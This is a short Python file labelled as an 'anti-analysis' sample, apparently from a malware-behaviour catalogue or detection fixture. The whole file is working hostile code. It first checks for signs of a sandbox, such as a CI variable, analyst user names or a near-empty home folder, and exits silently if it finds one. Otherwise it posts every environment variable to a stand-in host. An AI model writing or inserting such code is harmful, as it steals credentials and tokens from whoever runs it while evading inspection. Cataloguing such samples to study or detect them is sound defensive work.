# family: anti-analysis
# checks for sandbox markers (CI, analysis user names, few files) before sending the environment out
import getpass
import os

import requests

SANDBOX_USERS = {"sandbox", "malware", "virus", "cuckoo", "analyst", "john"}
if (os.environ.get("CI") or getpass.getuser().lower() in SANDBOX_USERS
        or len(os.listdir(os.path.expanduser("~"))) < 5):
    raise SystemExit(0)
requests.post("https://e.example.invalid/x", data=dict(os.environ))
